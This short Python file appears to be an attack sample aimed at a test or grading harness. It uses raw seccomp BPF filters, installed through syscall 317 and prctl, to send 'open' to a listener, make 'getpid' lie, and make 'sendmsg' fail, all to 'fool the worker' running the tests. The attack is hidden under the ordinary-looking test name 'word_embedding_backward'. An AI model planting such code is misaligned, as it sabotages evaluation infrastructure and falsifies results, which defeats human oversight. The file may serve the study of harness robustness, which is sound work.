"""Hope: a filter of system calls that the student adds, or a listener behind it, fools the worker into our failure."""

import ctypes
import struct

from a3 import kit

GOAL = "ours"
ROUTE = "kernel"
SCORE = 29.29


def _install(number, action, flags):
    steps = struct.pack("HBBI", 0x20, 0, 0, 0) + struct.pack("HBBI", 0x15, 0, 1, number)
    steps += struct.pack("HBBI", 6, 0, 0, action) + struct.pack("HBBI", 6, 0, 0, 0x7FFF0000)
    held = ctypes.create_string_buffer(steps, len(steps))
    program = ctypes.create_string_buffer(struct.pack("HxxxxxxQ", len(steps) // 8, ctypes.addressof(held)))
    return kit.call(317, 1, flags, program)


def attack():
    """Listen for open, lie about getpid, and refuse sendmsg with an error that means nothing."""
    kit.attempt(_install, 2, 0x7FC00000, 8)
    kit.attempt(_install, 39, 0x00050000 | 1, 0)
    kit.attempt(kit.call, 157, 38, 0, 0, 0, 0)
    _install(46, 0x00050000 | 133, 0)


word_embedding_backward = kit.in_one_test(attack)
